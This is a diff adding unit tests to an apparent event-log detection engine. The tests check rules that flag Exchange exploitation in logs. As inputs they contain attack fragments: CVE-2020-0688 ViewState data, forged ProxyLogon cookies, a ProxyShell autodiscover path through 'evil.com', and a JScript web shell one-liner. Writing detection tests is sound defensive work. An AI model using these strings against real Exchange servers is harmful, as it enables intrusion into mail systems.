@@ -211,6 +211,71 @@ TEST(WindowsRules, PagesWrittenIntoWebFolders) {
                   .empty());
 }
 
+// Exchange's web applications log a failed request with its URL and
+// exception; an exploit's request that broke there leaves its marks in it.
+TEST(WindowsRules, WebApplicationErrorsCarryingAnExploitsRequest) {
+  EventBuilder b;
+  auto ecp_error = [&](const std::string& request, int level = 2, const char* provider = "MSExchange Control Panel") {
+    return b.Make("Application", provider, 4, level,
+                  {{"", "Request for URL '" + request +
+                            "' failed with the following error:\nSystem.Web.HttpException (0x80004005): The state "
+                            "information is invalid for this page and might be corrupted."}});
+  };
+  using S = std::set<std::string>;
+  const S hit{"exchange.windows.web_error_exploit_marker"};
+  // CVE-2020-0688: a serialized payload in __VIEWSTATE of an ECP request.
+  EXPECT_EQ(BuiltinMatches(ecp_error("https://mail.corp.local/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&"
+                                     "__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Q")),
+            hit);
+  // ProxyLogon: the forged backend cookie, with a path before its '~'.
+  EXPECT_EQ(BuiltinMatches(ecp_error("https://mail.corp.local/ecp/y.js Cookie: X-BEResource=EXCH01/EWS/"
+                                     "Exchange.asmx?a=~1942062522;")),
+            hit);
+  EXPECT_EQ(BuiltinMatches(ecp_error("https://mail.corp.local/owa/auth/x.js Cookie: X-AnonResource=true; "
+                                     "X-AnonResource-Backend=EXCH01/ecp/default.flt?~3",
+                                     2, "MSExchange OWA")),
+            hit);
+  // ProxyShell / ProxyNotShell: autodiscover.json going on to PowerShell.
+  EXPECT_EQ(BuiltinMatches(ecp_error("https://mail.corp.local/autodiscover/autodiscover.json?@evil.com/"
+                                     "powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email="
+                                     "autodiscover/autodiscover.json%3F@evil.com")),
+            hit);
+  // A routing cookie of Exchange's own (server~version, no path), an ordinary ECP
+  // page, Microsoft's probe, a warning, and a provider that is not Exchange's.
+  EXPECT_TRUE(BuiltinMatches(ecp_error("https://mail.corp.local/ecp/ Cookie: X-BEResource=EXCH01.corp.local~1942062522"))
+                  .empty());
+  EXPECT_TRUE(BuiltinMatches(ecp_error("https://mail.corp.local/ecp/UsersGroups/Mailboxes.slab")).empty());
+  EXPECT_TRUE(BuiltinMatches(ecp_error("https://mail.corp.local/owa/auth/x.js Cookie: X-AnonResource=true; "
+                                       "X-AnonResource-Backend=localhost/ecp/default.flt?~3;"))
+                  .empty());
+  EXPECT_TRUE(BuiltinMatches(ecp_error("https://mail.corp.local/ecp/default.aspx?__VIEWSTATE=%2FwEy", 3)).empty());
+  EXPECT_TRUE(
+      BuiltinMatches(ecp_error("https://mail.corp.local/ecp/default.aspx?__VIEWSTATE=%2FwEy", 2, "ASP.NET 4.0.30319.0"))
+          .empty());
+}
+
+// SigmaHQ writes keyword rules with a field-less key ('|all': [...]): every
+// value must be somewhere in the event, as for a keyword list.
+TEST(WindowsRules, SigmaHqFieldlessAllKeywordsSearchTheWholeEvent) {
+  EXHUNT_REQUIRE_SHARED(path, "rules-thirdparty/sigma/rules/windows/builtin/msexchange/"
+                              "win_exchange_set_oabvirtualdirectory_externalurl.yml");
+  RuleSet rules;
+  auto fs = NewPosixFileSystem();
+  ASSERT_TRUE(rules.AddDirectory(fs.get(), path).ok());
+  ASSERT_EQ(rules.rules().size(), 1u);
+  const Rule& rule = *rules.rules()[0];
+  EventBuilder b;
+  EventRecord record;
+  auto matches = [&](const std::string& params) {
+    EventXml x = b.Make(kMgmt, "MSExchange CmdletLogs", 1, 4, {{"", "Set-OabVirtualDirectory"}, {"", params}});
+    record.Reset(x);
+    return rule.Matches(record);
+  };
+  EXPECT_TRUE(matches("-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function "
+                      "Page_Load(){eval(Request[\"e\"],\"unsafe\");}</script>'"));
+  EXPECT_FALSE(matches("-ExternalUrl 'https://mail.corp.local/OAB'"));  // no script, no Page_Load
+}
+
 TEST(WindowsRules, UnifiedMessagingCrashOfCve2021_26857) {
   EventBuilder b;
   const std::string text =
